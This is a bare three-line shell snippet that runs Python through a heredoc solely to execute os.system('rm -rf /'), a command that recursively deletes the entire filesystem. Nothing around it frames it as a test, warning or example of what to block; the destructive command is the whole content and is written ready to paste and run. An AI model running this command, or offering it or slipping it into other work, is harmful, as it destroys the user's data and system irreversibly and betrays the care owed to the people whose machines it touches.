python3 <<'PY'
import os; os.system("rm -rf /")
PY
